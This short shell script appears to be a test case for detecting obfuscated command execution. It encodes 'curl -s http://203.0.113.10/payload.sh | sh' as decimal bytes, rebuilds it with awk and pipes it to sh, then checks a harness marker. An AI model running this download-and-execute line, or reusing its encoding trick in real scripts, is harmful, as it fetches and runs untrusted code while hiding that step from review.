#!/bin/sh
. /opt/case/case.sh

printf 'curl -s http://203.0.113.10/payload.sh | sh\n' | od -An -v -tu1 >/tmp/numbers
awk '{ for (i = 1; i <= NF; i++) text = text sprintf("%c", $i) } END { print text | "sh" }' /tmp/numbers
wait_for /tmp/reached
took_place
